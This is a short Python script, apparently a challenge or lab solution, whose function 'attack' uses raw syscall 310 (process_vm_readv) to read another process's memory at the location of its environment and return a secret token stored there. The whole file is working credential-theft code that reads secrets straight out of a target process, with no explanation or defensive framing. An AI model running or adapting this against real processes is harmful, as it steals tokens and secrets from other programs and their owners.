import ctypes

import aim
from raw import syscall


def attack():
    here = ctypes.create_string_buffer(6 + len(aim.TOKEN))
    mine = (ctypes.c_size_t * 2)(ctypes.addressof(here), len(here) )
    theirs = (ctypes.c_size_t * 2)(aim.ENVIRONMENT_AT, 6 + len(aim.TOKEN))
    syscall(310, aim.PID, mine, 1, theirs, 1, 0)
    return here.raw[6:].decode()
